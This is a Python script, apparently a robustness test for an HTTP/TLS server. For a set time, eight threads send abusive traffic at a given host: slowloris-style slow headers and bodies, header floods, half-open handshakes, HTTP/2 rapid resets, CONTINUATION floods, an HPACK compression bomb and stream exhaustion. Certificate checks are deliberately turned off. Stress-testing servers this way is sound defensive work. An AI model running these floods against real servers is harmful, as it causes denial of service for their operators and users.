#!/usr/bin/env python3
"""Treats a server over TLS as no client should, for a while.

usage: abusive_peer.py HOST:PORT SECONDS [--plain]

Random bytes, half-open and slow connections, aborted requests and answers, header floods, and HTTP/2 resets, pings,
settings and continuations. The last line of the output is a JSON object that counts what was done. The exit status is 0
unless the server could not be reached at all; whether it withstood is for the caller to ask of the server itself.
"""
import collections
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

done = collections.Counter()
lock = threading.Lock()


def count(what):
    with lock:
        done[what] += 1


class Target:
    def __init__(self, address, plain):
        host, _, port = address.rpartition(":")
        self.host, self.port, self.plain = host.strip("[]"), int(port), plain
        self.context = {}
        for protocol in ("http/1.1", "h2"):
            # Who the server is does not matter to an attacker.
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols([protocol])
            self.context[protocol] = context

    def raw(self, timeout=2):
        return socket.create_connection((self.host, self.port), timeout=timeout)

    def connect(self, protocol="http/1.1", timeout=2):
        connection = self.raw(timeout)
        if self.plain:
            return connection
        try:
            return self.context[protocol].wrap_socket(connection, server_hostname="localhost")
        except Exception:
            connection.close()
            raise


def abort(connection):
    """Closes with a reset instead of a farewell."""
    try:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    connection.close()


# HTTP/2 by hand.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def frame(kind, payload=b"", flags=0, stream=0):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text):
    data = text.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, prefix = len(data) - 127, bytes([127])
    while rest >= 128:
        prefix += bytes([rest % 128 | 128])
        rest //= 128
    return prefix + bytes([rest]) + data


def block(fields):
    return b"".join(b"\0" + literal(name) + literal(value) for name, value in fields)


def request(path="/healthz", method="GET", more=()):
    return block([(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *more])


# What is done to the server. Each takes a target and a deadline.

def random_bytes(target, deadline):
    connection = target.raw()
    connection.sendall(os.urandom(random.randrange(1, 100_000)))
    abort(connection) if random.random() < 0.5 else connection.close()


def random_bytes_inside(target, deadline):
    connection = target.connect(random.choice(["http/1.1", "h2"]))
    for _ in range(random.randrange(1, 20)):
        connection.sendall(os.urandom(random.randrange(1, 20_000)))
    abort(connection)


def broken_requests(target, deadline):
    good = b"GET /version HTTP/1.1\r\nHost: localhost\r\nAccept: application/json\r\n\r\n"
    connection = target.connect()
    for _ in range(20):
        damaged = bytearray(good)
        for _ in range(random.randrange(1, 6)):
            damaged[random.randrange(len(damaged))] = random.randrange(256)
        connection.sendall(bytes(damaged))
    connection.settimeout(0.2)
    while connection.recv(65536):
        pass


def half_open(target, deadline):
    """Connections that say nothing, or begin a handshake and stop."""
    connections = []
    for _ in range(50):
        connection = target.raw()
        if random.random() < 0.5:
            connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
        connections.append(connection)
    time.sleep(min(0.5, max(0, deadline - time.monotonic())))
    for connection in connections:
        abort(connection) if random.random() < 0.5 else connection.close()


def slow_headers(target, deadline):
    connections = [target.connect() for _ in range(10)]
    for connection in connections:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
    for index in range(20):
        for connection in connections:
            connection.sendall(b"X-%d: y\r\n" % index)
        time.sleep(0.02)
    for connection in connections:
        connection.close()


def slow_body(target, deadline):
    connections = [target.connect() for _ in range(10)]
    for connection in connections:
        connection.sendall(b"POST /api/v1/namespaces HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
    for _ in range(20):
        for connection in connections:
            try:
                connection.sendall(b"x")
            except OSError:
                pass
        time.sleep(0.02)
    for connection in connections:
        abort(connection)


def aborted_requests(target, deadline):
    for _ in range(20):
        connection = target.connect()
        connection.sendall(b"GET /version HTTP/1.1\r\nHost: localhost\r\n\r\n")
        abort(connection)


def unread_answers(target, deadline):
    """Asks for many answers and takes none."""
    connection = target.connect()
    connection.settimeout(0.3)
    text = b"GET /openapi/v2 HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50
    try:
        while time.monotonic() < deadline:
            connection.sendall(text)
    except OSError:
        pass
    abort(connection)


def header_flood(target, deadline):
    connection = target.connect()
    try:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
        for index in range(3000):
            connection.sendall(b"X-%d: %s\r\n" % (index, b"y" * 1000))
    finally:
        connection.close()


def long_target(target, deadline):
    connection = target.connect()
    try:
        connection.sendall(b"GET /" + b"x" * 5_000_000)
    finally:
        connection.close()


def http2(target):
    connection = target.connect("h2")
    connection.sendall(PREFACE + frame(SETTINGS))
    return connection


def http2_resets(target, deadline):
    connection = http2(target)
    try:
        head = request()
        for index in range(0, 4000, 20):
            connection.sendall(b"".join(
                frame(HEADERS, head, 5, 2 * number + 1) + frame(RESET, b"\0\0\0\x08", 0, 2 * number + 1)
                for number in range(index, index + 20)))
    finally:
        abort(connection)


def http2_pings(target, deadline):
    connection = http2(target)
    try:
        for _ in range(200):
            connection.sendall((frame(PING, b"12345678") + frame(SETTINGS) + frame(PRIORITY, b"\0\0\0\0\1", 0, 1)) * 20)
    finally:
        abort(connection)


def http2_continuations(target, deadline):
    connection = http2(target)
    try:
        connection.sendall(frame(HEADERS, request(), 0, 1))
        for index in range(2000):
            connection.sendall(frame(CONTINUATION, block([("x-%d" % index, "y" * 1000)]), 0, 1))
    finally:
        abort(connection)


def http2_bomb(target, deadline):
    """A field in the table of the compression that is named again and again."""
    connection = http2(target)
    try:
        first = b"\x40" + literal("x-large") + literal("y" * 4000)
        connection.sendall(frame(HEADERS, request(more=[]) + first + b"\xbe" * 8000, 5, 1))
        for stream in range(3, 99, 2):
            connection.sendall(frame(HEADERS, request(more=[]) + b"\xbe" * 12000, 5, stream))
        connection.settimeout(0.5)
        while connection.recv(65536):
            pass
    finally:
        abort(connection)


def http2_streams(target, deadline):
    """Far more streams than are allowed, all left open, with windows of no size."""
    connection = http2(target)
    try:
        connection.sendall(frame(SETTINGS, struct.pack(">HI", 4, 0)))
        head = request("/openapi/v2", "POST")
        for number in range(500):
            connection.sendall(frame(HEADERS, head, 4, 2 * number + 1))
        connection.settimeout(0.3)
        while connection.recv(65536):
            pass
    finally:
        abort(connection)


def http2_damaged(target, deadline):
    good = frame(HEADERS, request(), 5, 1) + frame(DATA, b"xyz", 1, 1) + frame(WINDOW, b"\x7f\xff\xff\xff", 0, 0)
    for _ in range(10):
        connection = http2(target)
        damaged = bytearray(good)
        for _ in range(random.randrange(1, 6)):
            damaged[random.randrange(len(damaged))] = random.randrange(256)
        connection.sendall(bytes(damaged))
        abort(connection)


def http2_empty_data(target, deadline):
    connection = http2(target)
    try:
        connection.sendall(frame(HEADERS, request("/api/v1/namespaces", "POST"), 4, 1))
        for _ in range(500):
            connection.sendall(frame(DATA, b"", 0, 1) * 20)
    finally:
        abort(connection)


ON_ANY = [
    random_bytes, random_bytes_inside, broken_requests, half_open, slow_headers, slow_body, aborted_requests,
    unread_answers, header_flood, long_target,
]
ON_HTTP2 = [
    http2_resets, http2_pings, http2_continuations, http2_bomb, http2_streams, http2_damaged, http2_empty_data,
]


def main():
    arguments = [argument for argument in sys.argv[1:] if not argument.startswith("--")]
    if len(arguments) != 2:
        sys.exit(__doc__)
    plain = "--plain" in sys.argv
    target = Target(arguments[0], plain)
    deadline = time.monotonic() + float(arguments[1])
    try:
        target.raw().close()
    except OSError as error:
        sys.exit(f"{arguments[0]}: {error}")
    attacks = ON_ANY + ([] if plain else ON_HTTP2)

    def attack(number):
        random.seed(number)
        # Each of them early on, then any of them.
        turn = attacks[number % len(attacks):] + attacks[:number % len(attacks)]
        while time.monotonic() < deadline:
            chosen = turn.pop() if turn else random.choice(attacks)
            try:
                chosen(target, min(deadline, time.monotonic() + 1))
                count(chosen.__name__)
            except OSError:
                # The server has had enough of it, as it should.
                count(chosen.__name__ + " (cut off)")

    threads = [threading.Thread(target=attack, args=(number,)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(dict(sorted(done.items()))))


main()
